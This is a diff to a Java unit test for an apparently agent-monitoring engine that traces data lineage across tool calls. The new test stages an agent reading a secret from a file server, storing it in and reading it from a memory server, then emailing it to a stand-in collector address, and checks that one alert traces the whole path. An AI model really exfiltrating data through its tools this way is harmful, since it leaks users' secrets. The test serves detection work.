@@ -3,6 +3,7 @@ package io.weir.engine.link;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import io.weir.engine.decide.Desk;
+import io.weir.engine.decide.JudgedCall;
 import io.weir.engine.state.MemoryStateTable;
 import io.weir.engine.state.StateTable;
 import io.weir.schemas.event.AlertRaised;
@@ -62,6 +63,29 @@ class LineageTest {
         apply(desk.reads("list_tickets", Map.of("text", SECRET)));
 
         assertThat(send(SECRET).path()).extracting(Hop::tool).doesNotContain("save_note");
+    }
+
+    @Test
+    void whatIsPutDownAtAServerAndReadFromItIsOnePathWhateverItsToolsAreCalled() {
+        Desk files = Desk.ofServer("s1", "agent-1", "files", 0);
+        Desk memory = Desk.ofServer("s1", "agent-1", "memory", 10);
+        apply(files.reads("read_text_file", Map.of("content", SECRET)));
+        JudgedCall put = memory.calls("create_entities", Map.of("observations", SECRET));
+        apply(put.event());
+        apply(memory.answers(put, Map.of("observations", SECRET)));
+        apply(memory.reads("read_graph", Map.of("observations", SECRET)));
+        Desk mail = Desk.ofServer("s1", "agent-1", "mail", 20);
+
+        List<AlertRaised> alerts =
+                apply(mail.calls("send_email", Map.of("to", "drop@collector.example", "body", SECRET), REQUEST)
+                        .event());
+
+        assertThat(alerts)
+                .singleElement()
+                .satisfies(alert -> assertThat(alert.path())
+                        .extracting(Hop::tool)
+                        .containsExactly(
+                                "read_text_file", "create_entities", "create_entities", "read_graph", "send_email"));
     }
 
     private AlertRaised send(String body) {
